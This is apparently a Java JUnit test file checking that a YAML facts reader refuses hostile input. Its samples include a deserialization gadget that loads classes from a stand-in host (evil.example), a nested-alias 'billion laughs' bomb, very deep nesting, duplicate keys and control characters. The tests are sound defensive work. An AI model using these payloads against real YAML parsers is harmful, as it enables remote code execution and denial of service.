package dev.cordon.intake;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.stream.Stream;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** A facts file that attacks its reader is refused soon, by name, and makes nothing but facts. */
class HostileFactsTest {

  static Stream<Arguments> hostile() {
    StringBuilder bomb = new StringBuilder("a0: &a0 [lol,lol,lol,lol,lol,lol,lol,lol,lol]\n");
    for (int level = 1; level < 12; level++) {
      bomb.append(
          "a%d: &a%d [%s]\n"
              .formatted(level, level, ("*a" + (level - 1) + ",").repeat(8) + "*a" + (level - 1)));
    }
    return Stream.of(
        Arguments.of("deep", "sources: " + "[".repeat(20_000)),
        Arguments.of("deep maps", "sources: " + "{a: ".repeat(2_000) + "1" + "}".repeat(2_000)),
        Arguments.of(
            "a class by its tag",
            "sources: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
                + " [[!!java.net.URL [\"http://evil.example\"]]]]\n"),
        Arguments.of("a key twice", "reference: {ip_country: a}\nreference: {ip_country: b}\n"),
        Arguments.of("controls", "sources: \u0000\u0007"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("hostile")
  void hostileFacts_areRefused(String what, String yaml) {
    Assertions.assertTimeoutPreemptively(
        Duration.ofSeconds(20),
        () ->
            assertThatThrownBy(() ->
                    OperationFacts.read(
                        new ByteArrayInputStream(yaml.getBytes(StandardCharsets.UTF_8))))
                .isInstanceOf(IntakeException.class)
                .satisfies(refused -> assertThat(refused.getMessage()).hasSizeLessThan(2_000)));
  }

  /** An alias is taken as the word it is and never unfolded. */
  @Test
  void aliasesOfAliases_areNotUnfolded() {
    StringBuilder bomb = new StringBuilder("a0: &a0 [lol,lol,lol,lol,lol,lol,lol,lol,lol]\n");
    for (int level = 1; level < 30; level++) {
      String before = "*a" + (level - 1) + " ";
      bomb.append("a%d: &a%d [%s]\n".formatted(level, level, (before + ",").repeat(8) + before));
    }
    for (String yaml :
        new String[] {
          bomb + "mailboxes: {ignore_dots: *a29 }\n", "mailboxes: &a\n  ignore_dots: *a \n"
        }) {
      OperationFacts facts =
          Assertions.assertTimeoutPreemptively(
              Duration.ofSeconds(20),
              () ->
                  OperationFacts.read(
                      new ByteArrayInputStream(yaml.getBytes(StandardCharsets.UTF_8))));
      assertThat(facts.toString()).hasSizeLessThan(500);
    }
  }
}
